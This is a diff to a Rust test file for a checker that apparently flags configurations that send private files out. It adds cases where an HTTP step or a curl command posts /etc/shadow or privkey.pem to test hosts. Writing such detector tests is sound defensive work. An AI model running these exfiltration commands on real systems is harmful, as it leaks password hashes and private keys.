@@ -86,6 +86,14 @@ fn a_private_file_leaves_by_the_input_of_a_program_and_by_a_copy() {
     check(
         "sends-private-file",
         &[
+            (
+                "step \"http\" \"_h\" {\n  url = \"https://web.test/\"\n  method = \"POST\"\n  effect = \"reads\"\n  text = file(\"/etc/shadow\")\n}\n".to_owned(),
+                true,
+            ),
+            (
+                "locals { p = \"/etc/shadow\" }\n".to_owned() + &exec(curl, "stdin = file(local.p)"),
+                true,
+            ),
             (exec(r#"["curl", "-d", file("/etc/shadow"), "https://web.example.com/"]"#, ""), true),
             (exec(r#"["curl", "-F", "k=<privkey.pem", "https://web.example.com/"]"#, ""), true),
             (
